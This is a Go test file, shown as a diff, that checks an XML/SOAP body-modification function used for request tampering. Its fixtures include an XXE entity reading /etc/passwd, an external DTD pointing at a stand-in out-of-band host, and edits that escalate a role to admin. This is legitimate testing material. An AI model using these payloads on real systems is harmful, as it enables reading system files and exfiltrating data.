@@ -0,0 +1,104 @@
+package service
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestModifyXMLBody(t *testing.T) {
+	t.Parallel()
+
+	const soap = `<?xml version="1.0" encoding="UTF-8"?>
+<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:u="urn:users"><soap:Body><u:GetUser u:id="7" mode="full"><u:name>alice</u:name><u:role>user</u:role><u:note/></u:GetUser></soap:Body></soap:Envelope>
+`
+	const prefix = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\" xmlns:u=\"urn:users\"><soap:Body>"
+
+	tests := []struct {
+		name    string
+		body    string
+		set     map[string]string
+		remove  []string
+		doctype string
+		want    string
+	}{
+		{
+			name: "set_element_and_attribute",
+			body: soap,
+			set:  map[string]string{"//u:role": "admin", "//u:GetUser/@u:id": "1", "//u:name": `a<b & "c"`},
+			want: prefix + `<u:GetUser u:id="1" mode="full"><u:name>a&lt;b &amp; &quot;c&quot;</u:name><u:role>admin</u:role><u:note/></u:GetUser></soap:Body></soap:Envelope>` + "\n",
+		},
+		{
+			name:   "remove_then_create",
+			body:   soap,
+			set:    map[string]string{"//u:GetUser/u:admin": "true", "//u:GetUser/@debug": "1"},
+			remove: []string{"//u:note", "//@mode"},
+			want:   prefix + `<u:GetUser u:id="7" debug="1"><u:name>alice</u:name><u:role>user</u:role><u:admin>true</u:admin></u:GetUser></soap:Body></soap:Envelope>` + "\n",
+		},
+		{
+			name:    "xxe_entity_declarations",
+			body:    `<user><name>bob</name></user>`,
+			set:     map[string]string{"/user/name": "&xxe;"},
+			doctype: `<!ENTITY xxe SYSTEM "file:///etc/passwd">`,
+			want:    "<!DOCTYPE user [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<user><name>&xxe;</name></user>",
+		},
+		{
+			name:    "doctype_replaced_and_references_kept",
+			body:    "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY a \"x>y\">]>\n<r a=\"&a;\">&a;<v>1</v></r>",
+			set:     map[string]string{"/r/v": "2"},
+			doctype: `<!DOCTYPE r SYSTEM "http://oast.example/x.dtd">`,
+			want:    "<?xml version=\"1.0\"?>\n<!DOCTYPE r SYSTEM \"http://oast.example/x.dtd\">\n<r a=\"&a;\">&a;<v>2</v></r>",
+		},
+		{
+			name: "prolog_kept_without_declaration",
+			body: "<!-- c -->\n<!DOCTYPE r [<!ENTITY e \"1\">]>\n<r><v>&e;</v></r>\n",
+			set:  map[string]string{"//v": "2"},
+			want: "<!-- c -->\n<!DOCTYPE r [<!ENTITY e \"1\">]>\n<r><v>2</v></r>\n",
+		},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			got, err := modifyXMLBody([]byte(tc.body), tc.set, tc.remove, tc.doctype)
+			require.NoError(t, err)
+			assert.Equal(t, tc.want, string(got))
+		})
+	}
+}
+
+func TestModifyXMLBodyErrors(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		name   string
+		body   string
+		set    map[string]string
+		remove []string
+		errMsg string
+	}{
+		{"not_xml", `{"a":1}`, map[string]string{"//a": "1"}, nil, "body is not valid XML"},
+		{"empty", ``, nil, []string{"//a"}, "body is not XML: no root element"},
+		{"malformed", `<a><b></a>`, map[string]string{"//a": "1"}, nil, "body is not valid XML"},
+		{"invalid_xpath", `<a/>`, map[string]string{"//[": "1"}, nil, `set_xml "//[": invalid XPath`},
+		{"no_match", `<a/>`, map[string]string{"//b[@id=1]": "1"}, nil, `set_xml "//b[@id=1]": matched no nodes`},
+		{"no_parent", `<a/>`, map[string]string{"/x/y": "1"}, nil, "nor did its parent /x"},
+		{"remove_no_match", `<a/>`, nil, []string{"//b"}, `remove_xml "//b": matched no nodes`},
+		{"remove_root", `<a/>`, nil, []string{"/a"}, "cannot remove the root element"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			_, err := modifyXMLBody([]byte(tc.body), tc.set, tc.remove, "")
+			require.Error(t, err)
+			assert.Contains(t, err.Error(), tc.errMsg)
+		})
+	}
+}
+
+func TestModifyXMLBodyNoop(t *testing.T) {
+	t.Parallel()
+
+	body := []byte("not xml")
+	got, err := modifyXMLBody(body, nil, nil, "")
+	require.NoError(t, err)
+	assert.Equal(t, body, got)
+}